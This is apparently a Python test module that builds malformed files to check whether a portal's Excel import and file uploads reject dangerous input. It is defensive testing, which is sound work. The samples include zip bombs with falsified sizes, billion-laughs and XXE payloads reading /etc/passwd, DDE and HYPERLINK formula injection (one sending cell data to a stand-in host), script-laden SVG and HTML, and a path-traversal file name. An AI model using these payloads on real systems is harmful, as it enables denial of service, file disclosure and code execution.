"""Malformed files for the security drill, built in memory (nothing is downloaded).

Each `Sample` is a file name, what it is, what the portal must do with it and a `build()`
that returns its bytes only when the drill sends it, so a run never holds every file at once.
Zip bombs are streamed into the archive in 1 MB chunks of one repeated block: hundreds of MB
unpacked, a few hundred KB packed, and never more than a few MB in memory while built.

Expectations:
- REFUSE: the endpoint must say no with a message and keep nothing;
- ACCEPT: a valid control file that the endpoint must take (proves the endpoint works);
- SAFE: refusing is fine; accepting is fine only if nothing dangerous is kept (no formula in
  the data or its export, no file contents leaked, no control characters in a stored name).
"""

from __future__ import annotations

import datetime
import io
import re
import struct
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from functools import cache
from typing import Any

REFUSE, ACCEPT, SAFE = "refuse", "accept", "safe"
MB = 1024 * 1024
BOMB_BYTES = 300 * MB  # "hundreds of MB" once unpacked


@dataclass(frozen=True)
class Sample:
    name: str
    description: str
    category: str
    expected: str
    build: Callable[[], bytes]
    heavy: bool = False  # costly to parse: sent to one import kind only
    marker: str = ""  # text that must not reach the data when the file is accepted (SAFE)


# --- valid files ---------------------------------------------------------------------------


@cache
def pdf() -> bytes:
    """A one-page PDF with a correct cross-reference table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        b"<< /Length 44 >>\nstream\nBT /F1 12 Tf 72 770 Td (Bien ban) Tj ET\nendstream",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


@cache
def png(size: int = 64) -> bytes:
    """A grey square PNG (8-bit RGB)."""
    header = struct.pack(">IIBBBBB", size, size, 8, 2, 0, 0, 0)
    raw = b"".join(b"\x00" + b"\x80\x80\x80" * size for _ in range(size))
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(raw, 9))
        + _png_chunk(b"IEND", b"")
    )


@cache
def jpeg() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (64, 64), (200, 30, 30)).save(out, "JPEG", quality=80)
    return out.getvalue()


SVG = (
    '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
    'width="600" height="600"><circle cx="300" cy="300" r="280" fill="#c00"/></svg>\n'
)

_DOCX_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_DOCX_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
_DOCX_BODY = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Báo cáo thành tích</w:t></w:r></w:p></w:body></w:document>"
)


@cache
def docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _DOCX_TYPES)
        archive.writestr("_rels/.rels", _DOCX_RELS)
        archive.writestr("word/document.xml", _DOCX_BODY)
    return out.getvalue()


def xlsx(headers: Sequence[str], rows: Sequence[Sequence[Any]], *, text_cells: Sequence[str] = ()) -> bytes:
    """A workbook as Excel would save it (openpyxl). `text_cells` ("A2"...) keep a leading
    "=" as text instead of turning it into a formula."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Dữ liệu"
    sheet.append(list(headers))
    for row in rows:
        sheet.append(list(row))
    for ref in text_cells:
        sheet[ref].data_type = "s"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def rezip(package: bytes, changes: dict[str, bytes | None]) -> bytes:
    """`package` with members replaced (bytes), removed (None) or added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(package)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dest,
    ):
        for info in source.infolist():
            if info.filename in changes:
                continue
            dest.writestr(info.filename, source.read(info.filename))
        for name, data in changes.items():
            if data is not None:
                dest.writestr(name, data)
    return out.getvalue()


def patch_sheet(package: bytes, edit: Callable[[str], str]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(package)) as source:
        xml = source.read("xl/worksheets/sheet1.xml").decode()
    return rezip(package, {"xl/worksheets/sheet1.xml": edit(xml).encode()})


def set_cell(xml: str, ref: str, cell: str) -> str:
    """Replace cell `ref` of a sheet's XML with the raw `<c ...>...</c>` given."""
    pattern = re.compile(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', re.S)
    if not pattern.search(xml):
        raise ValueError(f"no cell {ref} in the sheet")
    return pattern.sub(lambda _m: cell, xml, count=1)


def inline(ref: str, text: str) -> str:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escaped}</t></is></c>'


# --- hostile building blocks ---------------------------------------------------------------

EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
    + b"\x00" * 44
    + b"PE\x00\x00"
    + b"\x00" * 200
)
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 300
HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="600" height="600">'
    b"<script>alert(document.domain)</script><circle cx='300' cy='300' r='200'/></svg>"
)
OLE2 = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # .xls / encrypted Office file
# Vietnamese as Windows-1258 writes it (base letter + tone byte): not valid UTF-8.
CP1258_TEXT = b"Tra\xf2m Y t\xea\xec"  # "Trạm Y tế": a, dot below; ê, acute
CSV_VI = "Họ và tên,Giới tính\nNguyễn Thị Hưởng,Nữ\n"


def plain_zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _stream_member(
    archive: zipfile.ZipFile, name: str, head: bytes, block: bytes, total: int, tail: bytes
) -> None:
    chunk = block * max(1, MB // len(block))
    info = zipfile.ZipInfo(name, (2026, 1, 1, 0, 0, 0))
    info.compress_type = zipfile.ZIP_DEFLATED
    with archive.open(info, "w", force_zip64=True) as member:
        member.write(head)
        written = len(head)
        while written < total:
            piece = chunk[: total - written]
            member.write(piece)
            written += len(piece)
        member.write(tail)


def zip_bomb(
    base: bytes, member: str, head: bytes, block: bytes, tail: bytes, total: int = BOMB_BYTES
) -> bytes:
    """`base` (a valid package) with `member` replaced by `total` bytes of repeated `block`."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dest:
        for info in source.infolist():
            if info.filename != member:
                dest.writestr(info.filename, source.read(info.filename))
        _stream_member(dest, member, head, block, total, tail)
    return out.getvalue()


def lie_about_sizes(package: bytes, member: str, declared: int = 1024) -> bytes:
    """Rewrite the sizes `member` declares (local header and central directory) to `declared`,
    so a check of declared sizes passes while the data still unpacks to the real size."""
    data = bytearray(package)
    with zipfile.ZipFile(io.BytesIO(package)) as archive:
        info = archive.getinfo(member)
    name = member.encode()
    # Local header: sizes at offset 22 (uncompressed); zip64 extra holds them when 0xFFFFFFFF.
    local = info.header_offset
    name_len, extra_len = struct.unpack_from("<HH", data, local + 26)
    struct.pack_into("<I", data, local + 22, declared)
    _patch_zip64_extra(data, local + 30 + name_len, extra_len, declared)
    central = data.rfind(b"PK\x01\x02", 0, len(data))
    while central != -1:
        c_name_len, c_extra_len = struct.unpack_from("<HH", data, central + 28)
        if bytes(data[central + 46 : central + 46 + c_name_len]) == name:
            struct.pack_into("<I", data, central + 24, declared)
            _patch_zip64_extra(data, central + 46 + c_name_len, c_extra_len, declared)
            break
        central = data.rfind(b"PK\x01\x02", 0, central)
    return bytes(data)


def _patch_zip64_extra(data: bytearray, start: int, length: int, declared: int) -> None:
    position = start
    while position + 4 <= start + length:
        tag, size = struct.unpack_from("<HH", data, position)
        if tag == 0x0001 and size >= 8:
            struct.pack_into("<Q", data, position + 4, declared)  # first field: uncompressed size
        position += 4 + size


def billion_laughs(root: str, namespace: str, inner: str) -> bytes:
    entities = ['<!ENTITY lol "lol">'] + [
        f'<!ENTITY lol{n} "{("&lol%s;" % (n - 1 or "")) * 10}">' for n in range(1, 10)
    ]
    entities[1] = '<!ENTITY lol1 "' + "&lol;" * 10 + '">'
    doctype = f"<!DOCTYPE {root} [{''.join(entities)}]>"
    body = inner.replace("LAUGH", "&lol9;")
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<{root} xmlns="{namespace}">{body}</{root}>'.encode()
    )


def external_entity(root: str, namespace: str, inner: str) -> bytes:
    doctype = f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    body = inner.replace("LAUGH", "&xxe;")
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{doctype}<{root} xmlns="{namespace}">{body}</{root}>'.encode()
    )


MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def nfd(text: str) -> str:
    return unicodedata.normalize("NFD", text)


# --- Excel samples -------------------------------------------------------------------------


@dataclass(frozen=True)
class ExcelSpec:
    """What a kind of import reads: its headers and a good row (unique per `n`)."""

    kind: str
    headers: Sequence[str]
    good_row: Callable[[int], list]
    text_column: int  # index of a free-text column that may carry a formula payload


def _col(index: int) -> str:
    from openpyxl.utils import get_column_letter

    return get_column_letter(index + 1)


def excel_samples(
    spec: ExcelSpec, *, max_rows: int, max_bytes: int, serial: Callable[[], int]
) -> list[Sample]:
    """Every malformed workbook for one import kind, plus valid controls. `serial()` gives a
    new number for each good row so controls never collide with earlier imports."""
    headers = spec.headers
    text_ref = f"{_col(spec.text_column)}2"

    def good(rows: int = 1) -> bytes:
        return xlsx(headers, [spec.good_row(serial()) for _ in range(rows)])

    def with_text(value: str) -> Callable[[], bytes]:
        def build() -> bytes:
            row = spec.good_row(serial())
            row[spec.text_column] = value
            return xlsx(headers, [row], text_cells=[text_ref])

        return build

    def with_cell(cell: Callable[[str], str]) -> Callable[[], bytes]:
        return lambda: patch_sheet(good(), lambda xml: set_cell(xml, text_ref, cell(text_ref)))

    def truncated(fraction: float) -> Callable[[], bytes]:
        def build() -> bytes:
            data = good(3)
            return data[: max(1, int(len(data) * fraction))]

        return build

    def dde(ref: str) -> str:
        return f'<c r="{ref}" t="str"><f>cmd|\' /C calc\'!A0</f><v>Trạm số {serial()}</v></c>'

    def hyperlink(ref: str) -> str:
        return (
            f'<c r="{ref}" t="str"><f>HYPERLINK("http://example.invalid/x?"&amp;A1,"Bấm vào")</f>'
            f"<v>Bấm vào {serial()}</v></c>"
        )

    def formula_no_cache(ref: str) -> str:
        return f"<c r=\"{ref}\"><f>cmd|' /C calc'!A0</f></c>"

    def too_many_rows() -> bytes:
        data_rows = "".join(
            f'<row r="{n}">' + inline(f"A{n}", f"Dòng {n}") + "</row>" for n in range(2, max_rows + 3)
        )
        return patch_sheet(
            good(),
            lambda xml: re.sub(
                r"<sheetData>.*</sheetData>",
                lambda _m: _header_xml(headers) + data_rows + "</sheetData>",
                xml,
                flags=re.S,
            ),
        )

    def too_many_columns() -> bytes:
        cells = "".join(inline(f"{_col(i)}1", f"Cột {i}") for i in range(16384))
        second = "".join(inline(f"{_col(i)}2", "x") for i in range(0, 16384, 97))
        return patch_sheet(
            good(),
            lambda xml: re.sub(
                r"<sheetData>.*</sheetData>",
                lambda _m: f'<sheetData><row r="1">{cells}</row><row r="2">{second}</row></sheetData>',
                xml,
                flags=re.S,
            ),
        )

    def dimension_claim() -> bytes:
        return patch_sheet(
            good(), lambda xml: re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', xml)
        )

    def last_row() -> bytes:
        far = f'<row r="1048576">{inline("A1048576", "Dòng cuối cùng của bảng tính")}</row>'
        return patch_sheet(good(), lambda xml: xml.replace("</sheetData>", far + "</sheetData>"))

    def shared_strings(document: bytes) -> Callable[[], bytes]:
        def build() -> bytes:
            package = good()
            package = patch_sheet(
                package, lambda xml: set_cell(xml, text_ref, f'<c r="{text_ref}" t="s"><v>0</v></c>')
            )
            with zipfile.ZipFile(io.BytesIO(package)) as source:
                types = source.read("[Content_Types].xml").decode()
                rels = source.read("xl/_rels/workbook.xml.rels").decode()
            types = types.replace(
                "</Types>",
                '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                'officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
            )
            rels = rels.replace(
                "</Relationships>",
                '<Relationship Id="rIdSS" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                'relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
            )
            return rezip(
                package,
                {
                    "[Content_Types].xml": types.encode(),
                    "xl/_rels/workbook.xml.rels": rels.encode(),
                    "xl/sharedStrings.xml": document,
                },
            )

        return build

    def workbook_bomb(document_for: Callable[[str, str, str], bytes]) -> Callable[[], bytes]:
        def build() -> bytes:
            package = good()
            with zipfile.ZipFile(io.BytesIO(package)) as source:
                workbook = source.read("xl/workbook.xml").decode()
            sheets = re.search(r"<sheets>.*</sheets>", workbook, re.S).group(0)
            inner = f'<workbookPr codeName="LAUGH"/>{sheets}'.replace(
                "<sheets>", f'<sheets xmlns:r="{REL_NS}">'
            )
            return rezip(package, {"xl/workbook.xml": document_for("workbook", MAIN_NS, inner)})

        return build

    def sheet_bomb() -> bytes:
        row = "".join(inline(f"{_col(i)}2", "Trạm Y tế xã") for i in range(len(headers)))
        block = f'<row r="2">{row}</row>'.encode()  # the same row number: the size is the point
        base = good()
        with zipfile.ZipFile(io.BytesIO(base)) as source:
            xml = source.read("xl/worksheets/sheet1.xml").decode()
        head, tail = xml.split("</sheetData>")
        head = head.split('<row r="2"')[0]
        return zip_bomb(
            base, "xl/worksheets/sheet1.xml", head.encode(), block, ("</sheetData>" + tail).encode()
        )

    def padding_bomb(member: str, lie: bool) -> Callable[[], bytes]:
        def build() -> bytes:
            bomb = zip_bomb(good(), member, b"", b" " * 4096, b"")
            return lie_about_sizes(bomb, member) if lie else bomb

        return build

    def many_members() -> bytes:
        out = io.BytesIO()
        with (
            zipfile.ZipFile(io.BytesIO(good())) as source,
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dest,
        ):
            for info in source.infolist():
                dest.writestr(info.filename, source.read(info.filename))
            for n in range(300):
                _stream_member(dest, f"xl/media/image{n}.bin", b"", b"\x00" * 4096, MB, b"")
        return out.getvalue()

    def oversize() -> bytes:
        import os

        base = good()
        out = io.BytesIO(base)
        with zipfile.ZipFile(out, "a", zipfile.ZIP_STORED) as archive:
            archive.writestr("xl/media/noise.bin", os.urandom(max_bytes + 1024))
        return out.getvalue()

    def encoding_lie() -> bytes:
        return _reencode_sheet(good())

    def invalid_utf8() -> bytes:
        def edit(xml: str) -> str:
            return set_cell(xml, text_ref, inline(text_ref, "@@CP1258@@"))

        package = patch_sheet(good(), edit)
        with zipfile.ZipFile(io.BytesIO(package)) as source:
            raw = source.read("xl/worksheets/sheet1.xml")
        raw = raw.replace(b"@@CP1258@@", CP1258_TEXT)
        return rezip(package, {"xl/worksheets/sheet1.xml": raw})

    def merged_header() -> bytes:
        return patch_sheet(
            good(),
            lambda xml: xml.replace(
                "</sheetData>", '</sheetData><mergeCells count="1"><mergeCell ref="A1:B1"/></mergeCells>'
            ),
        )

    def nfd_row() -> bytes:
        row = [nfd(v) if isinstance(v, str) else v for v in spec.good_row(serial())]
        return xlsx([nfd(h) for h in headers], [row])

    def control_chars(text: str) -> Callable[[], bytes]:
        return with_cell(lambda ref: f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>')

    k = spec.kind
    samples = [
        # renamed types
        Sample(f"{k}-exe.xlsx", "Windows EXE renamed .xlsx", "renamed", REFUSE, lambda: EXE),
        Sample(f"{k}-elf.xlsx", "Linux ELF renamed .xlsx", "renamed", REFUSE, lambda: ELF),
        Sample(f"{k}-page.xlsx", "HTML with script renamed .xlsx", "renamed", REFUSE, lambda: HTML),
        Sample(f"{k}-svg.xlsx", "SVG with script renamed .xlsx", "renamed", REFUSE, lambda: SVG_SCRIPT),
        Sample(f"{k}-pdf.xlsx", "PDF renamed .xlsx", "renamed", REFUSE, pdf),
        Sample(f"{k}-png.xlsx", "PNG renamed .xlsx", "renamed", REFUSE, png),
        Sample(f"{k}-docx.xlsx", "Word document renamed .xlsx", "renamed", REFUSE, docx),
        Sample(
            f"{k}-zip.xlsx", "plain ZIP renamed .xlsx", "renamed", REFUSE, lambda: plain_zip({"a.txt": b"x"})
        ),
        Sample(f"{k}-xls.xlsx", "OLE2 (.xls / encrypted) renamed .xlsx", "renamed", REFUSE, lambda: OLE2),
        Sample(f"{k}-csv.xlsx", "UTF-8 CSV renamed .xlsx", "renamed", REFUSE, lambda: CSV_VI.encode()),
        # truncated
        *[
            Sample(
                f"{k}-cut{int(f * 100)}.xlsx",
                f"valid workbook cut at {int(f * 100)}%",
                "truncated",
                REFUSE,
                truncated(f),
            )
            for f in (0.0005, 0.1, 0.5, 0.9, 0.995)
        ],
        # zip and XML bombs
        Sample(
            f"{k}-bomb-sheet.xlsx",
            "sheet1.xml of 300 MB (repeated rows)",
            "zip bomb",
            REFUSE,
            sheet_bomb,
            heavy=True,
        ),
        Sample(
            f"{k}-bomb-pad.xlsx",
            "sheet1.xml padded to 300 MB of spaces",
            "zip bomb",
            REFUSE,
            padding_bomb("xl/worksheets/sheet1.xml", False),
            heavy=True,
        ),
        Sample(
            f"{k}-bomb-lie.xlsx",
            "sheet1.xml 300 MB, sizes declared as 1 KB",
            "zip bomb",
            REFUSE,
            padding_bomb("xl/worksheets/sheet1.xml", True),
            heavy=True,
        ),
        Sample(
            f"{k}-bomb-members.xlsx", "300 members of 1 MB each", "zip bomb", REFUSE, many_members, heavy=True
        ),
        Sample(
            f"{k}-laughs-ss.xlsx",
            "billion laughs in sharedStrings.xml",
            "xml bomb",
            REFUSE,
            shared_strings(billion_laughs("sst", MAIN_NS, "<si><t>LAUGH</t></si>")),
        ),
        Sample(
            f"{k}-laughs-wb.xlsx",
            "billion laughs in workbook.xml",
            "xml bomb",
            REFUSE,
            workbook_bomb(billion_laughs),
        ),
        Sample(
            f"{k}-xxe-ss.xlsx",
            "external entity file:///etc/passwd in sharedStrings.xml",
            "xml bomb",
            SAFE,
            shared_strings(external_entity("sst", MAIN_NS, "<si><t>LAUGH</t></si>")),
            marker="root:",
        ),
        Sample(
            f"{k}-xxe-wb.xlsx",
            "external entity in workbook.xml",
            "xml bomb",
            SAFE,
            workbook_bomb(external_entity),
            marker="root:",
        ),
        # formulas and DDE
        Sample(
            f"{k}-eq-dde.xlsx",
            "text cell =cmd|' /C calc'!A0",
            "formula",
            REFUSE,
            with_text("=cmd|' /C calc'!A0"),
        ),
        Sample(
            f"{k}-eq-link.xlsx",
            'text cell =HYPERLINK("http://...")',
            "formula",
            REFUSE,
            with_text('=HYPERLINK("http://example.invalid","x")'),
        ),
        Sample(
            f"{k}-sp-eq.xlsx", "text cell '  =1+1' (spaces first)", "formula", REFUSE, with_text("   =1+1")
        ),
        Sample(
            f"{k}-f-dde.xlsx",
            "DDE formula cell with a cached value",
            "formula",
            SAFE,
            with_cell(dde),
            marker="cmd|",
        ),
        Sample(
            f"{k}-f-link.xlsx",
            "HYPERLINK formula cell with a cached value",
            "formula",
            SAFE,
            with_cell(hyperlink),
            marker="HYPERLINK",
        ),
        Sample(
            f"{k}-f-nocache.xlsx",
            "DDE formula cell without a cached value",
            "formula",
            SAFE,
            with_cell(formula_no_cache),
            marker="cmd|",
        ),
        Sample(
            f"{k}-at.xlsx",
            "text cell @SUM(1+1)*cmd|' /C calc'!A0",
            "formula",
            SAFE,
            with_text("@SUM(1+1)*cmd|' /C calc'!A0"),
        ),
        Sample(
            f"{k}-plus.xlsx",
            "text cell +cmd|' /C calc'!A0",
            "formula",
            SAFE,
            with_text("+cmd|' /C calc'!A0"),
        ),
        Sample(
            f"{k}-minus.xlsx",
            "text cell -2+3+cmd|' /C calc'!A0",
            "formula",
            SAFE,
            with_text("-2+3+cmd|' /C calc'!A0"),
        ),
        # huge sheets
        Sample(
            f"{k}-rows.xlsx",
            f"{max_rows + 1} data rows (limit {max_rows})",
            "huge",
            REFUSE,
            too_many_rows,
            heavy=True,
        ),
        Sample(f"{k}-cols.xlsx", "16,384 columns", "huge", REFUSE, too_many_columns, heavy=True),
        Sample(f"{k}-dim.xlsx", "good row, dimension claims A1:XFD1048576", "huge", SAFE, dimension_claim),
        Sample(
            f"{k}-lastrow.xlsx", "good row plus a cell on row 1,048,576", "huge", REFUSE, last_row, heavy=True
        ),
        # empty, too large, encodings, structure
        Sample(f"{k}-empty.xlsx", "empty file (0 bytes)", "empty", REFUSE, lambda: b""),
        Sample(f"{k}-headers-only.xlsx", "headers and no rows", "empty", REFUSE, lambda: xlsx(headers, [])),
        Sample(f"{k}-blank.xlsx", "workbook with an empty sheet", "empty", REFUSE, lambda: xlsx([], [])),
        Sample(
            f"{k}-large.xlsx",
            f"valid workbook padded over the {max_bytes // MB} MB import limit",
            "too large",
            REFUSE,
            oversize,
            heavy=True,
        ),
        Sample(
            f"{k}-utf16.xlsx",
            "sheet XML re-encoded UTF-16 (no declaration)",
            "encoding",
            SAFE,
            encoding_lie,
        ),
        Sample(
            f"{k}-cp1258.xlsx",
            "sheet XML with Windows-1258 bytes (invalid UTF-8)",
            "encoding",
            REFUSE,
            invalid_utf8,
        ),
        Sample(
            f"{k}-csv16.xlsx", "UTF-16 CSV renamed .xlsx", "encoding", REFUSE, lambda: CSV_VI.encode("utf-16")
        ),
        Sample(f"{k}-merged.xlsx", "merged header cells", "structure", REFUSE, merged_header),
        Sample(
            f"{k}-nul.xlsx", "NUL character reference in a cell", "control", REFUSE, control_chars("Tr&#0;m")
        ),
        Sample(
            f"{k}-esc.xlsx",
            "ESC control character in a cell",
            "control",
            REFUSE,
            control_chars("Tr\x1b[31mm"),
        ),
        # valid controls
        Sample(f"{k}-good.xlsx", "valid workbook, 3 rows", "valid", ACCEPT, lambda: good(3)),
        Sample(
            f"{k}-nfd.xlsx", "valid workbook written in NFD (decomposed) Vietnamese", "valid", ACCEPT, nfd_row
        ),
    ]
    return samples


def _header_xml(headers: Sequence[str]) -> str:
    return (
        '<sheetData><row r="1">' + "".join(inline(f"{_col(i)}1", h) for i, h in enumerate(headers)) + "</row>"
    )


def _reencode_sheet(package: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(package)) as source:
        xml = source.read("xl/worksheets/sheet1.xml").decode()
    return rezip(package, {"xl/worksheets/sheet1.xml": xml.encode("utf-16-le")})


# --- other uploads (dossiers, evidence, minutes, emblem) -----------------------------------


def upload_samples(*, max_bytes: int) -> list[Sample]:
    """Malformed and valid files for the file uploads. The drill turns ACCEPT into REFUSE
    where an endpoint does not take the file's type (e.g. a .docx as the council's minutes)."""

    def cut(data: Callable[[], bytes], length: int | float) -> Callable[[], bytes]:
        def build() -> bytes:
            whole = data()
            return whole[: int(len(whole) * length) if isinstance(length, float) else length]

        return build

    def large(data: Callable[[], bytes]) -> Callable[[], bytes]:
        return lambda: data() + b"\x00" * (max_bytes + 1 - len(data()))

    def docx_bomb(lie: bool) -> Callable[[], bytes]:
        def build() -> bytes:
            bomb = zip_bomb(
                docx(), "word/document.xml", _DOCX_BODY.encode()[:-20], b" " * 4096, b"</w:document>"
            )
            return lie_about_sizes(bomb, "word/document.xml") if lie else bomb

        return build

    def xlsx_bomb() -> bytes:
        return zip_bomb(xlsx(["a"], [["b"]]), "xl/worksheets/sheet1.xml", b"", b" " * 4096, b"")

    def docx_laughs() -> bytes:
        body = billion_laughs(
            "w:document",
            "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
            "<w:body>LAUGH</w:body>",
        )
        return rezip(docx(), {"word/document.xml": body.replace(b'xmlns="', b'xmlns:w="')})

    samples = [
        # renamed types
        *[
            Sample(f"renamed-{what}.{ext}", f"{label} renamed .{ext}", "renamed", REFUSE, data)
            for what, label, data in (
                ("exe", "Windows EXE", lambda: EXE),
                ("elf", "Linux ELF", lambda: ELF),
                ("html", "HTML with script", lambda: HTML),
                ("svg", "SVG with script", lambda: SVG_SCRIPT),
                ("zip", "plain ZIP", lambda: plain_zip({"readme.txt": b"hello"})),
            )
            for ext in ("pdf", "png", "jpg", "docx", "xlsx")
        ],
        Sample("pdf-as.png", "PDF renamed .png", "renamed", REFUSE, pdf),
        Sample("png-as.jpg", "PNG renamed .jpg", "renamed", REFUSE, png),
        Sample("jpg-as.pdf", "JPEG renamed .pdf", "renamed", REFUSE, jpeg),
        Sample("docx-as.xlsx", "Word document renamed .xlsx", "renamed", REFUSE, docx),
        Sample("xlsx-as.docx", "workbook renamed .docx", "renamed", REFUSE, lambda: xlsx(["a"], [["b"]])),
        Sample("ole2.docx", "OLE2 (.doc) renamed .docx", "renamed", REFUSE, lambda: OLE2),
        Sample("script.svg.exe", "EXE with a double extension", "renamed", REFUSE, lambda: EXE),
        Sample("bao-cao.html", "HTML with its own extension", "renamed", REFUSE, lambda: HTML),
        Sample("emblem-script.svg", "SVG with <script>", "renamed", REFUSE, lambda: SVG_SCRIPT),
        Sample(
            "emblem-onload.svg",
            "SVG with an onload handler",
            "renamed",
            REFUSE,
            lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)" width="600" height="600"/>',
        ),
        Sample(
            "emblem-link.svg",
            "SVG with an outside link in single quotes",
            "renamed",
            REFUSE,
            lambda: (
                b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="600" '
                b"height=\"600\"><image xlink:href='http://example.invalid/track.png' width='10' height='10'/></svg>"
            ),
        ),
        Sample(
            "emblem-laughs.svg",
            "SVG with a billion-laughs DOCTYPE",
            "xml bomb",
            REFUSE,
            lambda: billion_laughs("svg", "http://www.w3.org/2000/svg", "<text>LAUGH</text>"),
        ),
        # truncated
        *[
            Sample(
                f"cut-{ext}-{label}.{ext}",
                f"valid {ext.upper()} cut at {label}",
                "truncated",
                REFUSE,
                cut(data, length),
            )
            for ext, data in (("pdf", pdf), ("png", png), ("jpg", jpeg), ("docx", docx))
            for label, length in (("3 bytes", 3), ("half", 0.5), ("all but 12 bytes", -12))
        ],
        # zip and XML bombs
        Sample("bomb.docx", "document.xml of 300 MB", "zip bomb", REFUSE, docx_bomb(False), heavy=True),
        Sample(
            "bomb-lie.docx",
            "document.xml of 300 MB, sizes declared as 1 KB",
            "zip bomb",
            REFUSE,
            docx_bomb(True),
            heavy=True,
        ),
        Sample("bomb.xlsx", "sheet1.xml of 300 MB", "zip bomb", REFUSE, xlsx_bomb, heavy=True),
        Sample("laughs.docx", "billion laughs in document.xml", "xml bomb", SAFE, docx_laughs),
        # empty and too large
        *[
            Sample(f"empty.{ext}", f"empty .{ext} (0 bytes)", "empty", REFUSE, lambda: b"")
            for ext in ("pdf", "png", "jpg", "docx", "svg")
        ],
        Sample(
            "large.pdf",
            f"PDF padded over the {max_bytes // MB} MB limit",
            "too large",
            REFUSE,
            large(pdf),
            heavy=True,
        ),
        Sample(
            "large.png",
            f"PNG padded over the {max_bytes // MB} MB limit",
            "too large",
            REFUSE,
            large(png),
            heavy=True,
        ),
        # encodings
        Sample(
            "utf16.pdf",
            "UTF-16 text renamed .pdf",
            "encoding",
            REFUSE,
            lambda: "%PDF-1.7 Biên bản".encode("utf-16"),
        ),
        Sample("utf16.svg", "UTF-16 SVG", "encoding", REFUSE, lambda: SVG.encode("utf-16")),
        Sample(
            "cp1258.svg",
            "SVG in Windows-1258",
            "encoding",
            REFUSE,
            lambda: SVG.replace("circle", "circle data-x='@@'").encode().replace(b"@@", CP1258_TEXT),
        ),
        # names
        Sample("no-extension", "PDF without an extension", "name", REFUSE, pdf),
        Sample("../../../../tmp/escape.pdf", "PDF named with a path traversal", "name", SAFE, pdf),
        Sample(nfd("Biên bản họp xét thi đua.pdf"), "PDF with an NFD Vietnamese name", "name", ACCEPT, pdf),
